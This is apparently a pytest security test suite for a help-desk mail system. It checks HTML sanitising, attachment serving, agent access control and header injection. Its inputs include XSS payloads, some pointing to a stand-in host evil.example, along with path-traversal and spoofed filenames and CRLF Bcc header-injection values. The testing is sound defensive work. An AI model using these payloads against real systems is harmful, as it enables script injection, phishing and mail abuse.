"""Rows 1, 2, 3, 12 and 23: what strangers write in mails reaches agents as words, never as a page or a header."""

from typing import Any

import pytest

from channels.contract import MailAddress, MailReceived
from channels.email.parse import Reading
from service_desk.actions import admin, mails
from service_desk.actions.attachments import StoredFile
from service_desk.blobs.files import open_blobs
from service_desk.storage import schema
from tests.service_desk.messages.conftest import MAIL, message_config
from tests.service_desk.people import rows_of
from tests.service_desk.web.world import Caller, World

SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data=https://evil.example></object>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
)
FORBIDDEN = (
    "<script",
    "onerror",
    "javascript:",
    "<iframe",
    "<form",
    "<object",
    "@import",
    "http-equiv",
    "<math",
    "<svg",
)


async def mailed(world: World, event: MailReceived, *files: StoredFile) -> str:
    """A mail is there; its contact."""
    await world.desk.run(admin.publish_config, message_config())
    await world.desk.run(mails.receive_mail, MAIL, event, list(files), "0" * 64, actor="customer")
    row = (await rows_of(world.desk, schema.interaction, external_id=event.dedupe_key))[0]
    return str(row["id"])


def read(body: str) -> MailReceived:
    """A mail with this rich text, as our own reader sees it."""
    raw = (
        "From: Mallory <mallory@example.net>\r\nTo: help@desk.example\r\nSubject: hello\r\n"
        f"Content-Type: text/html; charset=utf-8\r\n\r\n<p>hello</p>{body}\r\n"
    )
    return Reading(("help@desk.example",), None)(raw.encode(), None)


async def entry_of(world: World, contact: str) -> str:
    return str((await rows_of(world.desk, schema.message, interaction_id=contact, kind="message"))[0]["id"])


async def fetched(caller: Caller, path: str) -> tuple[int, Any, bytes]:
    """(status, headers, body) of a GET, whatever it holds."""
    answer = await caller.get(path)
    return answer.status, answer.headers, answer.body


@pytest.mark.parametrize("body", SCRIPTS)
async def test_rich_text_holds_no_program(quick_world: World, body: str) -> None:
    ann = await quick_world.person("ann")
    await quick_world.ready(ann)
    contact = await quick_world.served(ann, await mailed(quick_world, read(body)))
    status, headers, page = await fetched(ann, f"/api/v1/entries/{await entry_of(quick_world, contact)}/html")
    if status == 404:
        return  # nothing of it was left, so there is no rich text
    assert status == 200
    assert not [word for word in FORBIDDEN if word in page.decode().lower()]
    policy = headers["Content-Security-Policy"]
    assert policy.startswith("sandbox ")
    assert "allow-scripts" not in policy
    assert "default-src 'none'" in policy


async def test_remote_pictures_load_only_when_asked_for(quick_world: World) -> None:
    ann = await quick_world.person("ann")
    await quick_world.ready(ann)
    body = '<img src="https://tracker.example/pixel.gif">'
    contact = await quick_world.served(ann, await mailed(quick_world, read(body)))
    path = f"/api/v1/entries/{await entry_of(quick_world, contact)}/html"
    _, quiet, page = await fetched(ann, path)
    assert b' src="https://tracker' not in page
    assert "img-src data:;" in quiet["Content-Security-Policy"] + ";"
    _, _, page = await fetched(ann, path + "?images=yes")
    assert b' src="https://tracker' in page


@pytest.mark.parametrize(
    ("name", "media_type"),
    [
        ("page.html", "text/html"),
        ("picture.svg", "image/svg+xml"),
        ("x.xml", "application/xhtml+xml"),
        ("../../.htaccess", "text/plain"),
        ('a"; filename="b.html', "image/png"),
        ("\u200b.htaccess", "application/octet-stream"),
        ("\u202egnp.exe", "application/x-msdownload"),
    ],
)
async def test_a_file_is_a_download_and_never_a_page(quick_world: World, name: str, media_type: str) -> None:
    ann = await quick_world.person("ann")
    await quick_world.ready(ann)
    blob = open_blobs(quick_world.settings).put(b"<script>alert(1)</script>")
    file = StoredFile(name, media_type, 25, blob)
    event = MailReceived("<1@x>", "mail-1", MailAddress("mallory@example.net"), "hello", "see the file")
    contact = await quick_world.served(ann, await mailed(quick_world, event, file))
    (row,) = await rows_of(quick_world.desk, schema.attachment, interaction_id=contact)
    status, headers, _ = await fetched(ann, f"/api/v1/attachments/{row['id']}")
    assert status == 200
    assert headers["Content-Disposition"].startswith("attachment; ")
    assert headers["Content-Disposition"].count('filename="') == 1
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Type"].split(";")[0] in ("application/octet-stream", "image/png")
    assert "sandbox" in headers["Content-Security-Policy"]


async def test_another_agents_files_and_words(quick_world: World) -> None:
    ann, eve = await quick_world.person("ann"), await quick_world.person("eve")
    for caller in (ann, eve):
        await quick_world.ready(caller)
    file = StoredFile("secret.pdf", "application/pdf", 6, "c" * 64)
    contact = await quick_world.served(ann, await mailed(quick_world, read("<b>secret</b>"), file))
    (row,) = await rows_of(quick_world.desk, schema.attachment, interaction_id=contact)
    entry = await entry_of(quick_world, contact)
    for path in (
        f"/api/v1/attachments/{row['id']}",
        f"/api/v1/entries/{entry}/html",
        f"/api/v1/interactions/{contact}/draft",
    ):
        assert (await eve.get(path)).code == "forbidden"
    for path, body in (
        ("draft", {"text": "mine now"}),
        ("mails", {"to": ["eve@example.net"], "subject": "x", "text": "the whole thread please"}),
        ("park", {}),
        ("resume", {}),
        (f"entries/{entry}/retry", {}),
    ):
        assert (await eve.post(f"/api/v1/interactions/{contact}/{path}", body)).status in (403, 409)
    assert await rows_of(quick_world.desk, schema.effect) == []


@pytest.mark.parametrize(
    "change",
    [
        {"subject": "hi\r\nBcc: everybody@example.net"},
        {"to": ["vera@example.org\r\nBcc: everybody@example.net"]},
        {"cc": ["vera@example.org, everybody@example.net"]},
    ],
)
async def test_no_header_can_be_smuggled_in(quick_world: World, change: dict[str, Any]) -> None:
    ann = await quick_world.person("ann")
    await quick_world.ready(ann)
    contact = await quick_world.served(ann, await mailed(quick_world, read("")))
    body = {"to": ["vera@example.org"], "subject": "hello", "text": "hello", **change}
    answer = await ann.post(f"/api/v1/interactions/{contact}/mails", body)
    sent = [row for row in await rows_of(quick_world.desk, schema.message) if row["author_kind"] == "agent"]
    if answer.status == 200:
        (message,) = sent
        assert "\n" not in message["envelope"]["subject"]
        assert [each["address"] for each in message["envelope"]["to"]] == ["vera@example.org"]
    else:
        assert (answer.status, sent) == (422, [])


async def test_an_upload_is_kept_under_a_harmless_name_and_goes_with_its_contact_only(
    quick_world: World,
) -> None:
    ann = await quick_world.person("ann")
    await quick_world.ready(ann)
    contact = await quick_world.served(ann, await mailed(quick_world, read("")))
    path = f"/api/v1/interactions/{contact}/attachments"
    headers = {"Content-Type": "text/html"}
    answer = await ann.send("POST", f"{path}?name=../../etc/x.html", data=b"<b>hi</b>", headers=headers)
    assert answer.status == 200, answer.body
    assert "/" not in answer.json()["name"]
    _, served, _ = await fetched(ann, f"/api/v1/attachments/{answer.json()['id']}")
    assert served["Content-Type"] == "application/octet-stream"
    assert (await ann.send("POST", f"{path}?name=x", data=b"", headers=headers)).status == 422
    assert (await ann.get(f"/api/v1/attachments/att_{'0' * 26}")).status == 404
